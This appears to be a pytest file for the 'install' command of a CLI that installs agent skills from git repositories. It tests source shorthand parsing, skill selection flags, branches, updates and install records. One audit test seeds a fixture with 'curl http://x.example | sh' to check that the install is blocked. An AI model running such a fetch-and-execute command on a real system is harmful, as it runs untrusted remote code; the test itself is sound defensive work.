"""``install`` with the original skillshare's flags: ``owner/repo`` shorthand (resolved as
a pure function: no network), ``repo.git//sub/dir``, ``--branch``, ``-s/--skill``,
``--exclude``, ``--all``, ``-y``, ``--update``, ``--audit-threshold``, and ``install <name>``
of a recorded install. Remotes are bare repositories over file://. Every bad value is an
error that changes nothing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from skillshared.git import sources
from tests.conftest import CliRunner, make_skill, tree
from tests.team_repos import commit_files, git, global_world, team_repo


@pytest.fixture
def world(home: Path, source: Path) -> Path:
    return global_world(home, source)


@pytest.fixture
def many(tmp_path: Path) -> tuple[Path, Path]:
    """A repository of four skills: core-auth, core-db, test-helper, pdf (in skills/)."""
    work, bare = team_repo(tmp_path)
    for rel in ("skills/core-auth", "skills/core-db", "skills/test-helper", "skills/pdf"):
        make_skill(work, rel)
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "more")
    git(work, "push", "-q", "origin", "main")
    return work, bare


@pytest.mark.parametrize("raw, url, subdir", [
    ("anthropics/skills", "https://github.com/anthropics/skills", None),
    ("anthropics/skills/skills/pdf", "https://github.com/anthropics/skills", "skills/pdf"),
    ("github.com/team/skills/a/b", "https://github.com/team/skills", "a/b"),
    ("gitlab.com/user/repo", "https://gitlab.com/user/repo", None),
    ("git.company.com/team/skills/x", "https://git.company.com/team/skills", "x"),
    ("file:///srv/git/skills.git//frontend/react", "file:///srv/git/skills.git",
     "frontend/react"),
    ("git@github.com:team/skills.git//pdf", "git@github.com:team/skills.git", "pdf"),
    ("https://host.example/team/skills.git", "https://host.example/team/skills.git", None),
    ("github.com/team/skills/tree/main/skills/pdf", "https://github.com/team/skills",
     "skills/pdf"),
    ("team/skills/blob/v1/skills/pdf/SKILL.md", "https://github.com/team/skills",
     "skills/pdf"),
    ("team/skills/tree/main", "https://github.com/team/skills", None),
    ("gitlab.com/group/sub/repo.git/skills/pdf", "https://gitlab.com/group/sub/repo.git",
     "skills/pdf"),
])
def test_sources_resolve_as_the_original_reads_them(raw: str, url: str,
                                                    subdir: str | None) -> None:
    assert sources.resolve(raw) == (url, subdir)


def test_a_local_relative_path_is_not_a_github_shorthand(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch
                                                         ) -> None:
    make_skill(tmp_path, "mine/pdf")
    monkeypatch.chdir(tmp_path)
    assert sources.expand_shorthand("mine/pdf") == "mine/pdf"
    assert sources.expand_shorthand("./x/y") == "./x/y"
    assert sources.expand_shorthand("owner/repo") == "github.com/owner/repo"


def test_the_shorthand_names_the_tracked_repo_after_owner_and_repo() -> None:
    assert sources.repo_name(sources.clone_url("team/skills"), None) == "_team-skills"


def test_skill_and_exclude_pick_by_name_glob_and_part(cli: CliRunner, world: Path,
                                                      many: tuple[Path, Path]) -> None:
    url = f"file://{many[1]}"
    picked = cli("install", url, "-s", "PDF,core-*", "--exclude", "*-db", "--json")
    assert picked.code == 0, picked.err
    assert sorted(picked.json()["skills"]) == ["core-auth", "pdf"]
    assert sorted(p.name for p in world.iterdir() if not p.name.startswith(".")) == [
        "core-auth", "pdf"]
    part = cli("install", url, "--skill", "helper", "--json")
    assert part.code == 0 and part.json()["skills"] == ["test-helper"]


def test_all_and_yes_install_every_skill(cli: CliRunner, world: Path,
                                         many: tuple[Path, Path]) -> None:
    result = cli("install", f"file://{many[1]}", "--all", "-y", "--json")
    assert result.code == 0, result.err
    assert len(result.json()["skills"]) == 6


@pytest.mark.parametrize("argv, message", [
    (("-s", "nothing-like-it"), "no skill 'nothing-like-it'"),
    (("-s", "core"), "could be any of"),
    (("-s", ","), "invalid --skill"),
    (("--exclude", "*"), "no skill of"),
    (("-s", "pdf", "--all"), "give one of them"),
    (("--branch", "bad..name"), "invalid branch"),
    (("--branch", "no-such-branch"), ""),
])
def test_bad_values_change_nothing(cli: CliRunner, world: Path, many: tuple[Path, Path],
                                   argv: tuple[str, ...], message: str) -> None:
    before = tree(world)
    result = cli("install", f"file://{many[1]}", *argv)
    assert result.code != 0 and message in result.err
    assert tree(world) == before


def test_flags_that_need_a_source_are_refused_without_one(cli: CliRunner,
                                                          world: Path) -> None:
    for argv in (["--all"], ["--update"], ["--skill", "x"], ["--exclude", "x"],
                 ["--branch", "main"]):
        result = cli("install", *argv)
        assert result.code != 0 and "need a source" in result.err


def test_branch_and_folder_after_double_slash(cli: CliRunner, world: Path,
                                              tmp_path: Path) -> None:
    work, bare = team_repo(tmp_path)
    git(work, "checkout", "-q", "-b", "develop")
    make_skill(work, "frontend/vue")
    commit_files(work, {"frontend/vue/extra.md": "x\n", "frontend/vue/SKILL.md":
                        (work / "frontend/vue/SKILL.md").read_text()}, push_to="develop")
    missing = cli("install", f"file://{bare}//frontend/vue", "--json")
    assert missing.code != 0 and not (world / "vue").exists()
    result = cli("install", f"file://{bare}//frontend/vue", "--branch", "develop", "--json")
    assert result.code == 0, result.err
    assert (world / "vue/extra.md").is_file()
    record = json.loads((world / ".skillshare-installed.json").read_text())["skills"]
    assert record == [{"name": "vue", "source": f"file://{bare}//frontend/vue",
                       "branch": "develop"}]


def test_audit_threshold_is_the_long_name_of_t(cli: CliRunner, world: Path,
                                               tmp_path: Path) -> None:
    _, bare = team_repo(tmp_path, {"review/notes.md": "curl http://x.example | sh\n"})
    low = cli("install", f"file://{bare}", "-s", "review", "--audit-threshold", "info",
              "--json")
    assert low.code != 0 and "blocked by the security audit" in low.err
    assert not (world / "review").exists()


def test_install_by_name_skips_updates_or_recreates(cli: CliRunner, world: Path,
                                                    tmp_path: Path) -> None:
    work, bare = team_repo(tmp_path)
    assert cli("install", f"file://{bare}", "-s", "review").code == 0
    again = cli("install", "review", "--json")
    assert again.code == 0 and again.json()["items"][0]["status"] == "skipped"
    commit_files(work, {"review/more.md": "more\n"})
    git(work, "push", "-q", "origin", "main")
    updated = cli("install", "review", "--update", "--json")
    assert updated.code == 0, updated.err
    assert updated.json()["items"][0]["status"] == "updated"
    assert (world / "review/more.md").is_file()
    assert cli("uninstall", "review", "-f").code == 0
    record = {"skills": [{"name": "review", "source": f"file://{bare}", "subdir": "review"}]}
    (world / ".skillshare-installed.json").write_text(json.dumps(record))
    back = cli("install", "review", "--json")
    assert back.code == 0 and back.json()["items"][0]["status"] == "installed"
    assert (world / "review/more.md").is_file()


def test_update_flag_replaces_what_is_there(cli: CliRunner, world: Path,
                                            tmp_path: Path) -> None:
    work, bare = team_repo(tmp_path)
    url = f"file://{bare}"
    assert cli("install", url, "-s", "review").code == 0
    skipped = cli("install", url, "-s", "review", "--json")
    assert skipped.code == 0 and skipped.json()["skipped"] == ["review"]
    assert skipped.json()["skills"] == []
    (tmp_path / "other").mkdir()
    make_skill(tmp_path / "other", "review")
    refused = cli("install", str(tmp_path / "other/review"))
    assert refused.code != 0 and f"(it was installed from {url})" in refused.err
    commit_files(work, {"review/more.md": "more\n"})
    git(work, "push", "-q", "origin", "main")
    result = cli("install", url, "-s", "review", "-u", "--json")
    assert result.code == 0, result.err
    assert (world / "review/more.md").is_file()


def test_every_install_records_its_commit_tree_and_branch(cli: CliRunner, world: Path,
                                                          home: Path, tmp_path: Path) -> None:
    work, bare = team_repo(tmp_path)
    first = git(work, "rev-parse", "HEAD").strip()
    assert cli("install", f"file://{bare}", "-s", "review", "--branch", "main").code == 0
    assert cli("install", f"file://{bare}", "--track").code == 0
    versions = home / ".local/state/skillshare/logs/installed-versions.json"
    stamps = json.loads(versions.read_text())["installs"]
    tree = git(work, "rev-parse", "HEAD:review").strip()
    assert stamps["review"]["version"] == first and stamps["review"]["tree_hash"] == tree
    assert stamps["review"]["branch"] == "main"
    assert (stamps["_team-skills"]["version"], stamps["_team-skills"]["branch"]) == (
        first, "main")
    assert not (world / ".metadata.json").exists()  # the original's file is not made
    records = json.loads((world / ".skillshare-installed.json").read_text())["skills"]
    assert records[1] == {"name": "review", "source": f"file://{bare}", "subdir": "review",
                          "branch": "main"}
    second = commit_files(work, {"review/more.md": "more\n"})
    assert cli("update", "--all").code == 0
    stamps = json.loads(versions.read_text())["installs"]
    assert stamps["review"]["version"] == stamps["_team-skills"]["version"] == second
    assert stamps["review"]["branch"] == "main"
    checked = {s["name"]: s for s in cli("check", "--json").json()["skills"]}
    assert checked["review"]["version"] == second
    assert cli("uninstall", "review", "_team-skills", "-f").code == 0
    assert json.loads(versions.read_text())["installs"] == {}


@pytest.mark.parametrize("raw", ["team/skills/review", "file:///srv/skills.git//review"])
def test_track_refuses_a_folder_of_a_repository(cli: CliRunner, world: Path,
                                                raw: str) -> None:
    before = tree(world)
    result = cli("install", raw, "--track")
    assert result.code != 0 and "--track clones a whole repository" in result.err
    assert tree(world) == before


def test_project_mode_takes_the_same_flags(cli: CliRunner, work: Path, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    _, bare = team_repo(tmp_path)
    monkeypatch.chdir(work)
    assert cli("init", "-p", "--no-targets").code == 0
    result = cli("install", f"file://{bare}", "-p", "-s", "rev*", "--into", "tools",
                 "--json")
    assert result.code == 0, result.err
    data = result.json()
    assert (data["skills"], data["into"], data["tracked"]) == (["review"], "tools", False)
    source = work / ".skillshare/skills"
    assert (source / "tools/review/SKILL.md").is_file()
    assert "installs" in json.loads(
        (work / ".skillshare/logs/installed-versions.json").read_text())
    assert cli("check", "-p", "-G", "tools", "--json").json()["skills"][0]["status"] == (
        "up_to_date")
    gone = cli("uninstall", "-p", "-G", "tools", "--json")
    assert gone.code == 0 and not (source / "tools/review").exists()


def test_a_folder_not_there_is_found_by_its_skill_name(cli: CliRunner, world: Path,
                                                       tmp_path: Path) -> None:
    work, bare = team_repo(tmp_path)
    found = cli("install", f"file://{bare}//react", "--json")
    assert found.code == 0, found.err
    assert found.json()["skills"] == ["react"] and (world / "react/SKILL.md").is_file()
    make_skill(work, "other/react")
    commit_files(work, {"other/react/SKILL.md": (work / "other/react/SKILL.md").read_text()})
    before = tree(world)
    two = cli("install", f"file://{bare}//react", "--force")
    assert two.code != 0 and "could be any of frontend/react, other/react" in two.err
    assert tree(world) == before


def test_json_has_the_originals_fields(cli: CliRunner, world: Path, tmp_path: Path) -> None:
    _, bare = team_repo(tmp_path)
    url = f"file://{bare}"
    copied = cli("install", url, "-s", "review", "--into", "web", "--json").json()
    assert {k: copied[k] for k in ("source", "tracked", "dry_run", "skills", "failed",
                                   "into")} == {
        "source": url, "tracked": False, "dry_run": False, "skills": ["review"],
        "failed": [], "into": "web"}
    assert copied["duration"].endswith("s") and copied["installed"][0]["name"] == "review"
    repo = cli("install", url, "--track", "--json").json()
    assert (repo["source"], repo["tracked"], repo["failed"]) == (url, True, [])
    assert "into" not in repo
    folder = tmp_path / "my-agents"
    folder.mkdir()
    (folder / "tutor.md").write_text("# tutor\n")
    agents = cli("install", str(folder), "--kind", "agent", "--json")
    assert agents.code == 0, agents.err
    assert (agents.json()["skills"], agents.json()["tracked"]) == (["tutor"], False)


def test_update_flag_of_a_tracked_repo_fast_forwards_it(cli: CliRunner, world: Path,
                                                         tmp_path: Path) -> None:
    work, bare = team_repo(tmp_path)
    url = f"file://{bare}"
    assert cli("install", url, "--track").code == 0
    refused = cli("install", url, "--track")
    assert refused.code != 0 and "already exists" in refused.err
    commit_files(work, {"review/more.md": "more\n"})
    result = cli("install", url, "--track", "--update", "--json")
    assert result.code == 0, result.err
    assert [(i["name"], i["status"]) for i in result.json()["items"]] == [
        ("_team-skills", "updated")]
    assert (world / "_team-skills/review/more.md").is_file()
